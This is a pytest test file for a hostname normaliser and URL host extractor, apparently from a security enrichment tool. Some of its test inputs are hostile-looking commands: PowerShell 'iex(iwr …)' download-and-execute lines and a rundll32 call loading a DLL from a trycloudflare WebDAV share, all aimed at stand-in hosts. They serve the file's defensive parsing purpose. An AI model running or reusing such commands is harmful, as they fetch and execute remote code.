from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from enricher.core.hostnames import LONGEST, hosts_in, normalise

LEGAL = re.compile(r"[a-z0-9_]([a-z0-9_-]*[a-z0-9_])?(\.[a-z0-9_]([a-z0-9_-]*[a-z0-9_])?)*")


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        pytest.param(" A.Workers.DEV. ", "a.workers.dev", id="case, blanks, trailing dot"),
        pytest.param("a.workers.dev:8443", "a.workers.dev", id="port"),
        pytest.param("a.workers.dev.:443", "a.workers.dev", id="dot and port"),
        pytest.param("_dmarc.a_b.example", "_dmarc.a_b.example", id="underscores are legal in DNS"),
        pytest.param("bücher.example", "xn--bcher-kva.example", id="IDNA"),
        pytest.param("_x.bücher.example", "_x.xn--bcher-kva.example", id="IDNA beside an underscore"),
        pytest.param("ｗorkers。dev", "workers.dev", id="full width, ideographic dot: as clients read it"),
        pytest.param("a\u00adb.example", "ab.example", id="a soft hyphen is nothing"),
        pytest.param("wоrkers.dev", "xn--wrkers-wqf.dev", id="a Cyrillic o is another name"),
        pytest.param("localhost", "localhost", id="one label"),
        pytest.param("7zip.example", "7zip.example", id="begins with a digit"),
        *(
            pytest.param(name, None, id=why)
            for why, name in {
                "empty": "",
                "blank": "  ",
                "null": "-",
                "IPv4": "93.184.216.34",
                "IPv4 with port": "93.184.216.34:443",
                "IPv4, hexadecimal": "0x5d.0xb8d822",
                "IPv4, one number": "1572395042",
                "IPv4, full width": "９３.184.216.34",
                "IPv6": "2606:2800:220:1::1",
                "IPv6 in brackets": "[2606:2800:220:1::1]:443",
                "two trailing dots": "a.example..",
                "empty label": "a..example",
                "leading dot": ".example",
                "hyphen first": "-a.example",
                "hyphen last": "a-.example",
                "blank inside": "a b.example",
                "line break inside": "a\n.example",
                "NUL": "a\x00.example",
                "slash": "a.example/x",
                "label of 64": "a" * 64 + ".example",
                "lone surrogate": "\ud800.example",
                "nothing after IDNA": "\u200b",
                "right-to-left override": "a\u202egpj.example",
                "Arabic digits as a port": "a.example:٤٤٣",
                "megabyte": "a." * 500_000,
            }.items()
        ),
    ],
)
def test_normalise(name: str, expected: str | None) -> None:
    assert normalise(name) == expected


def test_length_is_counted_without_the_trailing_dot() -> None:
    longest = ".".join(["a" * 49] * 5) + ".abc"
    assert len(longest) == LONGEST
    assert normalise(longest + ".") == longest
    assert normalise("a" + longest) is None


@given(st.text())
def test_normalise_never_raises_and_its_answer_is_a_name_that_stays_itself(name: str) -> None:
    answer = normalise(name)
    if answer is not None:
        assert LEGAL.fullmatch(answer)
        assert len(answer) <= LONGEST
        assert normalise(answer) == answer


@given(st.from_regex(r"[a-z0-9]{1,9}(\.[a-z0-9]{1,9}){1,3}\.[a-z]{2,5}", fullmatch=True))
def test_spelling_does_not_matter(name: str) -> None:
    assert normalise(f" {name.upper()}.:443 ") == name


@pytest.mark.parametrize(
    ("text", "hosts"),
    [
        ("curl https://a.workers.dev/x?y#z", ("a.workers.dev",)),
        ('"c:\\x.exe" "HTTPS://A.Workers.dev:8443"', ("a.workers.dev",)),
        ("iex(iwr https://a.workers.dev)", ("a.workers.dev",)),
        ("iwr 'https://a.workers.dev'+$x", ("a.workers.dev",)),
        ("[https://a.workers.dev], <ftp://b.example>; wss://c.example|iex", ("a.workers.dev", "b.example", "c.example")),
        ("http://u:p@a.workers.dev/", ("a.workers.dev",)),
        ("see https://a.workers.dev.", ("a.workers.dev",)),
        pytest.param(r'{"u": "http:\/\/a.workers.dev\/x"}', ("a.workers.dev",), id="JSON escapes"),
        pytest.param(r"http:\\a.workers.dev\x", ("a.workers.dev",), id="backslashes"),
        pytest.param("https:////a.workers.dev", ("a.workers.dev",), id="more slashes than due"),
        pytest.param("https://a%2eworkers.dev/", ("a.workers.dev",), id="percent-encoded"),
        pytest.param("https://u:p(1)@a.workers.dev/", ("a.workers.dev",), id="a bracket in a password hides nothing"),
        pytest.param(
            "(https://a.workers.dev),me@b.example", ("b.example", "a.workers.dev"), id="an @ behind hides nothing"
        ),
        pytest.param(r"rundll32 \\x.trycloudflare.com@SSL\DavWWWRoot\a.dll,b", ("x.trycloudflare.com",), id="WebDAV share"),
        pytest.param(r"\\x.example@8080\d", ("x.example",), id="WebDAV share with a port"),
        pytest.param("https://a.dev https://b.dev https://A.dev", ("a.dev", "b.dev"), id="each once, in order"),
        pytest.param(
            "http://[::1]/ http://127.0.0.1/ http://$x/ http://%HOST%/", (), id="addresses and variables are no names"
        ),
        pytest.param(r"\\server\share //a.example mailto:x@a.example", (), id="no URL"),
        ("", ()),
    ],
)
def test_hosts_in(text: str, hosts: tuple[str, ...]) -> None:
    assert hosts_in(text) == hosts


@given(st.text(alphabet=st.sampled_from('htps:/\\@.a1-[]()"%2e \n'), max_size=300) | st.text())
def test_hosts_in_never_raises_and_gives_names(text: str) -> None:
    assert all(normalise(host) == host for host in hosts_in(text))


@pytest.mark.parametrize(
    "unit",
    ["http://", "http:", "http://a.example ", "\\\\a", "\\", "h", "@", "http://" + "@" * 99, "\\\\a@ssl", "https://%"],
)
def test_a_megabyte_is_read_in_one_go(unit: str) -> None:
    """Would take minutes, and so fail in CI, if any expression looked back over what it has read."""
    megabyte = unit * (1_000_000 // len(unit))
    assert len(hosts_in(megabyte)) <= 1
    assert "a.workers.dev" in hosts_in(megabyte + ' "https://a.workers.dev"')
